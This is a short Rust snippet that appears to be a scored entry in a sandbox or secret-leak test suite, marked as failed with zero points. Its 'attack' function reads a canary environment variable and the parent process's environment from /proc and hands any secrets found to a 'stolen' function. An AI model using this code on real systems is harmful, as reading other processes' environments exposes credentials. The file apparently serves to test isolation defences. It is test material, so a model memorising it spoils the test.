// Prints its environment and that of its parent.
// base: stub
// verdict: failed
// points: 0

fn attack() {
    if let Ok(secret) = std::env::var("CANARY_VARIABLE") {
        stolen(&secret);
    }
    let parent = std::os::unix::process::parent_id();
    let environment = std::fs::read(format!("/proc/{parent}/environ")).unwrap_or_default();
    let environment = String::from_utf8_lossy(&environment);
    if ["CANARY_VARIABLE", "LAB_REPORT"].iter().any(|name| environment.contains(name)) {
        stolen(&environment);
    }
}
